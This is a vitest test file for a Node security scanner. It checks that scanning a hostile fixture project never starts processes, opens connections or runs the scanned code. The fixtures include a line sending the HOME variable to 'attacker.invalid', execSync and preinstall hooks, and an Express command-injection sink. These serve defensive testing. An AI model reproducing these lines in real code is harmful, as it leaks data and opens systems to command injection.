/**
 * Safety of the tool itself: a scan never touches the network, never starts a process, never
 * runs the code it scans, and writes only its report, its results cache and, in its own install
 * folder's .cache/, the code cache of its parser (Node < 22.1) and its installation secret. The CLI runs with a preload
 * (NODE_OPTIONS=--require) that makes every connection, DNS lookup, HTTP request, process start
 * and file write fail or be recorded.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const REPO = path.resolve(__dirname, '..');
const BIN = path.join(REPO, 'bin/nodesec.js');
const base = mkdtempSync(path.join(os.tmpdir(), 'nodesec-safety-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));

const LOG = path.join(base, 'attempts.log');
/** nodesec's own folder's cache: its code cache (src/code-cache.ts) and its installation secret (src/cache.ts). */
const CODE_CACHE = path.join(REPO, '.cache') + path.sep;
const MARKER = path.join(base, 'marker-was-executed');

/** Records (to LOG) and refuses network, process and write operations. CommonJS, no dependencies. */
const PRELOAD = String.raw`
'use strict';
const fs = require('fs');
const LOG = process.env.SAFETY_LOG;
const logFd = fs.openSync(LOG, 'a'); // before the patches below; writeSync is never patched
const writeSync = fs.writeSync.bind(fs);
const note = (what, detail) => { try { writeSync(logFd, JSON.stringify({ what, detail: String(detail ?? '') }) + '\n'); } catch {} };
const refuse = (what) => function (...args) { note(what, args[0] && (args[0].href || args[0].host || args[0].path || args[0])); throw new Error('nodesec safety test: ' + what + ' is not allowed'); };

const net = require('net');
net.Socket.prototype.connect = refuse('net.connect');
net.connect = net.createConnection = refuse('net.connect');
const tls = require('tls');
tls.connect = refuse('tls.connect');
const dns = require('dns');
for (const k of ['lookup', 'resolve', 'resolve4', 'resolve6', 'resolveAny', 'lookupService']) dns[k] = refuse('dns.' + k);
for (const k of ['lookup', 'resolve', 'resolve4', 'resolve6']) if (dns.promises) dns.promises[k] = refuse('dns.promises.' + k);
for (const m of ['http', 'https', 'http2']) {
  const mod = require(m);
  for (const k of ['request', 'get', 'connect']) if (typeof mod[k] === 'function') mod[k] = refuse(m + '.' + k);
}
if (typeof globalThis.fetch === 'function') globalThis.fetch = (u) => { note('fetch', u); return Promise.reject(new Error('no fetch')); };
const cp = require('child_process');
for (const k of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) cp[k] = refuse('child_process.' + k);

// Writes: recorded with their path (the test decides which are allowed).
const WRITE_FLAGS = /[wa+]/;
const flagsWrite = (f) => (typeof f === 'number' ? (f & (fs.constants.O_WRONLY | fs.constants.O_RDWR | fs.constants.O_CREAT | fs.constants.O_TRUNC | fs.constants.O_APPEND)) !== 0 : typeof f === 'string' && WRITE_FLAGS.test(f));
const wrap = (obj, name, isWrite) => {
  const orig = obj[name];
  if (typeof orig !== 'function') return;
  obj[name] = function (...args) { if (!isWrite || isWrite(args)) note('write:' + name, args[0]); return orig.apply(this, args); };
};
for (const k of ['writeFileSync', 'writeFile', 'appendFile', 'mkdirSync', 'mkdir', 'renameSync', 'rename', 'unlinkSync', 'unlink', 'rmSync', 'rm', 'rmdirSync', 'copyFileSync', 'cpSync', 'symlinkSync', 'linkSync', 'truncateSync', 'chmodSync', 'utimesSync', 'createWriteStream']) wrap(fs, k);
wrap(fs, 'appendFileSync');
wrap(fs, 'openSync', (a) => flagsWrite(a[1]));
wrap(fs, 'open', (a) => flagsWrite(a[1]));
for (const k of ['writeFile', 'appendFile', 'mkdir', 'rename', 'unlink', 'rm', 'copyFile', 'cp', 'symlink', 'truncate', 'chmod']) wrap(fs.promises, k);
wrap(fs.promises, 'open', (a) => flagsWrite(a[1]));
`;

/** A project whose code would do harm if it ran: write a marker, phone home, start a shell. */
const EVIL = [
  "const fs = require('fs');",
  `fs.writeFileSync(${JSON.stringify(MARKER)}, 'executed at load time');`,
  "require('https').get('https://attacker.invalid/?' + process.env.HOME);",
  "require('child_process').execSync('touch /tmp/nodesec-pwned');",
  'module.exports = 1;',
  '',
].join('\n');

function run(args: string[], cwd: string) {
  writeFileSync(LOG, '');
  const r = spawnSync(process.execPath, [BIN, ...args], {
    cwd,
    encoding: 'utf8',
    env: {
      ...process.env,
      NO_COLOR: '1',
      NODESEC_DEBUG: '',
      SAFETY_LOG: LOG,
      NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --require ${path.join(base, 'preload.cjs')}`.trim(),
    },
    timeout: 120_000,
  });
  const attempts = readFileSync(LOG, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { what: string; detail: string });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, attempts };
}

/** Every file under `dir` with its size and mtime. */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const visit = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const abs = path.join(d, e.name);
      if (e.isDirectory()) visit(abs);
      else {
        const st = statSync(abs, { throwIfNoEntry: false });
        out.set(path.relative(dir, abs), st ? `${st.size}:${st.mtimeMs}` : 'link');
      }
    }
  };
  visit(dir);
  return out;
}

describe('the scanner is safe to run on hostile code', () => {
  let project: string;
  beforeAll(() => {
    writeFileSync(path.join(base, 'preload.cjs'), PRELOAD);
    project = path.join(base, 'project');
    mkdirSync(path.join(project, 'src'), { recursive: true });
    writeFileSync(
      path.join(project, 'src', 'app.js'),
      [
        "const express = require('express');",
        "const { exec } = require('child_process');",
        'const app = express();',
        "app.get('/ping', (req, res) => {",
        "  exec('ping -c 1 ' + req.query.host);",
        '});',
        '',
      ].join('\n'),
    );
    writeFileSync(path.join(project, 'src', 'evil.js'), EVIL);
    writeFileSync(path.join(project, 'src', 'evil.mjs'), EVIL.replace("const fs = require('fs');", "import fs from 'fs';"));
    writeFileSync(path.join(project, 'index.ts'), "import './src/evil.js';\nexport * from './src/app.js';\n");
    writeFileSync(
      path.join(project, 'package.json'),
      JSON.stringify({ name: 'evil', main: 'src/evil.js', scripts: { preinstall: `node -e "require('fs').writeFileSync('${MARKER}','x')"`, prepare: 'touch pwned' } }),
    );
  });

  it('the preload really blocks connections (sanity check of the test itself)', () => {
    const r = spawnSync(process.execPath, ['-e', "require('net').connect(80, '127.0.0.1')"], {
      encoding: 'utf8',
      env: { ...process.env, SAFETY_LOG: LOG, NODE_OPTIONS: `--require ${path.join(base, 'preload.cjs')}` },
    });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/net\.connect is not allowed/);
  });

  it('completes normally with no connection, DNS lookup, HTTP request or process start', () => {
    const before = snapshot(project);
    const r = run(['scan', '.', '--format', 'json', '--no-cache', '--threat-model', 'library'], project);
    expect(r.stderr).not.toMatch(/not allowed|internal error/);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.findings.some((f: any) => f.file === 'src/app.js' && f.ruleId === 'command-injection')).toBe(true);
    expect(r.attempts).toEqual([]);
    // The scanned code never ran, and the scanned tree is untouched.
    expect(existsSync(MARKER)).toBe(false);
    expect(existsSync('/tmp/nodesec-pwned')).toBe(false);
    expect(snapshot(project)).toEqual(before);
  });

  it('writes only the report (--output), the cache and its own code cache, in every format', () => {
    const out = path.join(base, 'out');
    mkdirSync(out, { recursive: true });
    const cache = path.join(base, 'cache');
    for (const format of ['json', 'sarif', 'text', 'github']) {
      const file = path.join(out, `report.${format}`);
      const r = run(['scan', '.', '--format', format, '--output', file, '--cache-location', cache], project);
      expect(r.code, format).toBe(1);
      expect(existsSync(file), format).toBe(true);
      const network = r.attempts.filter((a) => !a.what.startsWith('write:'));
      expect(network, format).toEqual([]);
      const outside = r.attempts.filter((a) => a.what.startsWith('write:') && a.detail !== file && !path.resolve(project, a.detail).startsWith(cache) && !path.resolve(project, a.detail).startsWith(CODE_CACHE));
      expect(outside, format).toEqual([]);
    }
    expect(existsSync(MARKER)).toBe(false);
  });

  it('the default cache goes to node_modules/.cache/nodesec of the current folder, nowhere else', () => {
    const r = run(['scan', '.', '--format', 'json'], project);
    expect(r.code).toBe(1);
    const cacheDir = path.join(project, 'node_modules', '.cache', 'nodesec');
    for (const a of r.attempts) {
      expect(a.what.startsWith('write:'), JSON.stringify(a)).toBe(true);
      const where = path.resolve(project, a.detail);
      expect(where.startsWith(cacheDir) || where.startsWith(CODE_CACHE), JSON.stringify(a)).toBe(true);
    }
    rmSync(path.join(project, 'node_modules'), { recursive: true, force: true });
  });
});
